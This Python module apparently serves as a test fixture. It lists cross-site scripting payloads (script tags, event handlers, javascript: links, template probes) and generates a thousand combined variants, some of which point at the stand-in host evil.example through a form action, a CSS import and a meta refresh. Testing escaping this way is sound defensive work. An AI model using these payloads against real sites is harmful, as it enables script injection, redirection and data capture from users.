"""Texts that would run as a script on a page that does not escape them."""

from __future__ import annotations

PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img src=http://evil.example/x.png>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>look</a>",
    "[look](javascript:alert(1))",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<form action=http://evil.example><button>go</button></form>",
    "{{ 7*7 }}{% raw %}<script>alert(1)</script>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
)
"""The payloads; each is put into every field that a page shows."""
_OPENERS = ("<", "</", '"><', "'><", "--><", "]]><", '\\"><', "&lt;<", "<!--><", "\u200b<")
_TAGS = ("script", "img", "svg", "iframe", "video", "math", "object", "x-a", "template", "marquee")
_TAILS = (
    ">alert(1)</script>",
    " src=x onerror=alert(1)>",
    " onload=alert(1)>",
    " href=http://evil.example/>",
    " style=background:url(http://evil.example/x)>",
    " onclick='alert(1)' autofocus>",
    "/onmouseover=alert(1)>",
    " srcdoc='<script>alert(1)</script>'>",
    ">{{7*7}}",
    " formaction=javascript:alert(1)>",
)


def generated() -> list[str]:
    """Return a thousand more: every opener with every tag and every tail."""
    return [f"{one}{tag}{tail}" for one in _OPENERS for tag in _TAGS for tail in _TAILS]
